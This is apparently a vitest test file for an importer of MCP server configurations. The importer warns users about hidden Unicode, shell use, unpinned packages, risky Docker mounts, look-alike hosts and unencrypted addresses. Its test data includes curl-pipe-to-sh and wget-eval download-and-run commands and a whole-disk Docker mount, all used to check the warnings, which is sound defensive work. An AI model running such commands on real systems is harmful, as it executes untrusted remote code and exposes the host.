import { describe, expect, it } from 'vitest';
import type { ProposedServer } from '../../../src/shared/imports.ts';
import { type ServerConfig, serverConfigSchema, serverNameSchema } from '../../../src/shared/servers.ts';
import { proves } from '../../proves.ts';
import { importing } from './importing.ts';

const json = (servers: Record<string, unknown>) => JSON.stringify({ mcpServers: servers });
const started = (command: string, ...args: string[]) => json({ x: { command, args } });
const codes = (server: ProposedServer | undefined) => server?.warnings.map(({ code }) => code);

async function only(text: string, environment: NodeJS.ProcessEnv = {}): Promise<ProposedServer | undefined> {
  const { servers } = await importing({ environment }).read(text);
  return servers[0];
}

describe('a proposal', () => {
  it('shows everything that would run, however long and whatever it hides', async () => {
    proves('import.preview');
    const args = ['\u202egnp.exe', 'a\u200bb', 'x'.repeat(50_000), 'tab\there'];
    const server = await only(json({ 'na\u200bme': { command: 'run\u0007me', args, env: { 'K\u2066': 'v' } } }));
    expect(server).toMatchObject({ originalName: 'na\u200bme', command: 'run\u0007me', args });
    expect(server?.warnings.filter(({ code }) => code === 'hidden').map(({ message }) => message)).toEqual([
      'Its name holds a character that hides or reorders text: U+200B.',
      'Its command holds a character that hides or reorders text: U+0007.',
      'Its argument 1 holds a character that hides or reorders text: U+202E.',
      'Its argument 2 holds a character that hides or reorders text: U+200B.',
      'Its variable’s or header’s name holds a character that hides or reorders text: U+2066.',
    ]);
  });

  it.each([
    ['a shell', ['sh', '-c', 'true'], ['shell']],
    ['a Windows shell', ['C:\\Windows\\System32\\cmd.exe', '/c', 'node', 'x.js'], ['shell']],
    ['PowerShell', ['pwsh', '-EncodedCommand', 'ZQ=='], ['shell']],
    ['a download that is run', ['bash', '-lc', 'curl -fsSL https://x.example/i | sh'], ['shell', 'download_and_run']],
    ['a download in a substitution', ['sh', '-c', 'eval "$(wget -qO- x.example)"'], ['shell', 'download_and_run']],
    ['a package without a version', ['npx', '-y', '@scope/tool'], ['unpinned_package']],
    ['a package at latest', ['npx', '--yes', 'tool@latest'], ['unpinned_package']],
    ['a package named by a flag', ['npx', '-y', '--package=tool', 'run'], ['unpinned_package']],
    ['a Python package', ['uvx', '--from', 'tool', 'run'], ['unpinned_package']],
    ['a package through a shell', ['cmd', '/c', 'npx', '-y', 'tool'], ['shell', 'unpinned_package']],
    ['a package with its version', ['npx', '-y', '@scope/tool@1.2.3'], []],
    ['a package of one’s own', ['npx', './tool'], []],
    ['a script of npm’s', ['npm', 'run', 'serve'], []],
    ['the whole disk', ['docker', 'run', '-v', '/:/host', 'image'], ['docker_mount']],
    ['the socket', ['podman', 'run', '-v=/var/run/docker.sock:/s', 'image'], ['docker_mount']],
    ['the home', ['docker', 'run', '--mount', 'type=bind,source=~,target=/h', 'image'], ['docker_mount']],
    ['all power', ['docker', 'run', '--privileged', 'image'], ['docker_privileged']],
    ['a capability', ['docker', 'run', '--cap-add', 'SYS_ADMIN', 'image'], ['docker_privileged']],
    ['a folder', ['docker', 'run', '-v', '/srv/data:/data:ro', 'image'], []],
    ['a plain program', ['node', 'server.js'], []],
  ])('warns of %s', async (_what, [command = '', ...args], expected) => {
    proves('import.preview');
    expect(codes(await only(started(command, ...args)))).toEqual(expected);
  });

  it('warns of addresses that look like others or are not encrypted', async () => {
    proves('import.preview');
    const server = await only(json({ x: { url: 'http://gіthub.com/mcp' } }));
    expect(codes(server)).toEqual(['look_alike_host', 'plain_http']);
    expect(server?.warnings[0]?.message).toContain('xn--');
    expect(codes(await only(json({ x: { url: 'http://127.0.0.1:3000/mcp' } })))).toEqual([]);
    expect(codes(await only(json({ x: { type: 'ws', url: 'ws://example.com' } })))).toEqual(['plain_http']);
  });

  it('says what it takes from the person’s environment, and what is not there', async () => {
    proves('import.preview');
    const text = json({ x: { url: 'https://x.example', headers: { A: '${env:MY_TOKEN}', B: '$${', C: '${GONE}' } } });
    const server = await only(text, { MY_TOKEN: 'secret-value' });
    expect(codes(server)).toEqual(['unset_variable', 'reads_variable']);
    expect(server?.values.map((value) => !value.secret && value.value)).toEqual(['${MY_TOKEN}', '$$${', '${GONE}']);
    expect(JSON.stringify(server)).not.toContain('secret-value');
  });

  it('warns of a command that is nowhere', async () => {
    proves('import.preview');
    const server = await only(started('nowhere'));
    expect(server?.warnings).toEqual([
      { code: 'server.command_not_found', message: 'It was not found.', remedy: 'Install it.' },
    ]);
    expect(server?.problem).toBeNull();
  });

  it('takes defaults, and says what is still to be given', async () => {
    const text = json({
      x: { command: 'c', args: ['${A:-one}', '${input:key}', '${{ secrets.S }}', '${command:pick}'] },
    });
    const server = await only(text);
    expect(server?.args).toEqual(['one', '${secret:x.key}', '${secret:x.S}', '$${command:pick}']);
    expect(codes(server)).toEqual(['default_used', 'secret_to_give', 'secret_to_give', 'unknown_placeholder']);
  });

  it('offers what is behind a bridge itself', async () => {
    const remote = {
      command: 'npx',
      args: ['-y', 'mcp-remote@0.1.30', 'https://a.example/mcp', '--header', 'X-Team:${T}'],
    };
    const gateway = { command: 'cmd', args: ['/c', 'npx', '-y', 'supergateway', '--sse', 'https://b.example/sse'] };
    const own = { command: 'npx', args: ['-y', 'supergateway@3.4.0', '--stdio', 'node x', '--port', '8000'] };
    const { servers } = await importing().read(json({ remote: { ...remote, env: { T: 'shop' } }, gateway, own }));
    expect(servers.map(({ transport, url, command }) => [transport, url ?? command])).toEqual([
      ['http', 'https://a.example/mcp'],
      ['sse', 'https://b.example/sse'],
      ['stdio', 'npx'],
    ]);
    expect(servers[0]?.values).toEqual([{ name: 'X-Team', secret: false, value: 'shop' }]);
  });

  it('keeps out what cannot be added, and says why', async () => {
    const servers = {
      empty: {},
      word: 'x',
      port: { url: 'ftp://x.example' },
      lines: { command: 'c', env: { A: 'a\nb' } },
    };
    const proposal = await importing().read(json({ ...servers, good: { command: 'c' } }));
    expect(proposal.servers.map(({ problem }) => problem?.code ?? null)).toEqual([
      ...Array(4).fill('input.invalid'),
      null,
    ]);
  });
});

describe('names', () => {
  it('are made valid, free, and unlike those that are here', async () => {
    proves('import.duplicates');
    const machine = importing();
    machine.configs.push(config({ name: 'files' }));
    const wanted = [
      'Files',
      'fi-les',
      'Ünïcode Server!',
      '@scope/tool',
      '__proto__x',
      '---',
      'a'.repeat(60),
      'a'.repeat(61),
    ];
    const { servers } = await machine.read(json(Object.fromEntries(wanted.map((name) => [name, { command: name }]))));
    const names = servers.map(({ name }) => name);
    expect(names).toEqual([
      'files-2',
      'fi-les-3',
      'unicode-server',
      'tool',
      'proto-x',
      'server',
      'a'.repeat(32),
      `${'a'.repeat(30)}-2`,
    ]);
    expect(names.every((name) => serverNameSchema.safeParse(name).success)).toBe(true);
  });

  it('do not hide that a server is here already', async () => {
    proves('import.duplicates');
    const machine = importing();
    const env = { TOKEN: '${secret:mine.TOKEN}', LEVEL: 'x' };
    machine.configs.push(
      config({ name: 'mine', command: 'npx', args: ['tool', '--key=${secret:mine.key}'], env }),
      config({ name: 'theirs', transport: 'http', url: 'https://x.example/mcp' }),
    );
    const { servers } = await machine.read(
      json({
        other: { command: 'npx', args: ['tool', '--key=abc'], env: { LEVEL: 'y', TOKEN: 't' } },
        another: { command: 'npx', args: ['tool', '--key=abc'], env: { LEVEL: 'y' } },
        address: { url: 'https://X.example/mcp/' },
      }),
    );
    expect(servers.map(({ duplicateOf }) => duplicateOf)).toEqual(['mine', null, 'theirs']);
  });
});

function config(some: Record<string, unknown>): ServerConfig {
  return serverConfigSchema.parse({ transport: 'stdio', command: 'c', addedAt: '2026-11-20T09:00:00Z', ...some });
}
